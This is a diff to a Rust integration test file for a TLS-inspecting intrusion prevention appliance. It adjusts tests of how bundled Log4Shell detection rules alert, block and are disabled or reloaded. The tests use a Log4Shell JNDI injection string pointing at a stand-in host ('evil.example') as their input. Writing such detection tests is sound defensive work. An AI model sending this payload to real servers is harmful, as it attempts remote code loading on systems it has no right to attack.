@@ -11,6 +11,8 @@ use tls_inspect_tests::{check, SERVER_IP};
 
 const LOG4SHELL: &str = "/?q=$%7Bjndi:ldap://evil.example/a%7D";
 const LOG4SHELL_RAW: &str = "/?q=${jndi:ldap://evil.example/a}";
+/// The bundled rules that fire on it.
+const LOG4SHELL_SIDS: [&str; 2] = ["9000001", "9000100"];
 
 /// The TLS bed with nginx and `[ips] enabled = true` plus `settings`; the appliance CA's path.
 fn ips_bed(settings: &str) -> Result<(Bed, String)> {
@@ -60,8 +62,9 @@ fn monitor_mode_lets_it_through_with_an_alert() -> Result<()> {
     assert!(out.contains("hello from nginx"), "{out}");
     b.wait_records(2)?;
     let a = alerts(&b);
-    assert_eq!(a.len(), 1, "{a:?}");
-    assert_eq!(a[0]["alert"]["action"], "allowed");
+    // Every rule that fires on it alerts (the bundled set has more than one Log4Shell rule).
+    assert!(a.iter().any(|r| r["alert"]["signature_id"] == 9000001), "{a:?}");
+    assert!(a.iter().all(|r| r["alert"]["action"] == "allowed"), "{a:?}");
     Ok(())
 }
 
@@ -149,9 +152,8 @@ fn http2_requests_are_inspected_too() -> Result<()> {
     assert!(out.contains("HTTP/2 403") && out.contains("x-tls-inspect-sid: 9000001") && out.contains("sid 9000001"), "{out}");
     b.wait_records(3)?;
     let a = alerts(&b);
-    assert_eq!(a.len(), 1, "{a:?}");
-    assert_eq!(a[0]["alert"]["signature_id"], 9000001);
-    assert_eq!(a[0]["http"]["url"], LOG4SHELL_RAW);
+    assert_eq!(a[0]["alert"]["signature_id"], 9000001, "{a:?}");
+    assert!(a.iter().all(|r| r["alert"]["action"] == "blocked" && r["http"]["url"] == LOG4SHELL_RAW), "{a:?}");
     let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
     assert!(!access.contains("jndi"), "{access}");
     Ok(())
@@ -197,11 +199,16 @@ fn rules_are_changed_and_reloaded_under_traffic() -> Result<()> {
     let list = check(b.t.cli().args(["rules", "list"]))?;
     assert!(list.contains("9000001") && list.contains("Log4Shell"), "{list}");
 
-    check(b.t.cli().args(["rules", "disable", "9000001"]))?;
-    assert!(get(&b, LOG4SHELL_RAW).contains("hello from nginx"), "a disabled rule does not block");
-    check(b.t.cli().args(["rules", "enable", "9000001"]))?;
-    check(b.t.cli().args(["rules", "action", "9000001", "alert"]))?;
-    assert!(get(&b, LOG4SHELL_RAW).contains("hello from nginx"), "an alert-only rule does not block");
+    // Two bundled rules stop this request: the plain and the obfuscated Log4Shell ones.
+    for sid in LOG4SHELL_SIDS {
+        check(b.t.cli().args(["rules", "disable", sid]))?;
+    }
+    assert!(get(&b, LOG4SHELL_RAW).contains("hello from nginx"), "disabled rules do not block");
+    for sid in LOG4SHELL_SIDS {
+        check(b.t.cli().args(["rules", "enable", sid]))?;
+        check(b.t.cli().args(["rules", "action", sid, "alert"]))?;
+    }
+    assert!(get(&b, LOG4SHELL_RAW).contains("hello from nginx"), "alert-only rules do not block");
     check(b.t.cli().args(["rules", "reset"]))?;
     assert!(get(&b, LOG4SHELL_RAW).contains("403 Forbidden"), "reset restores the defaults");
     let out = tls_inspect_tests::run(b.t.cli().args(["rules", "disable", "424242"]))?;
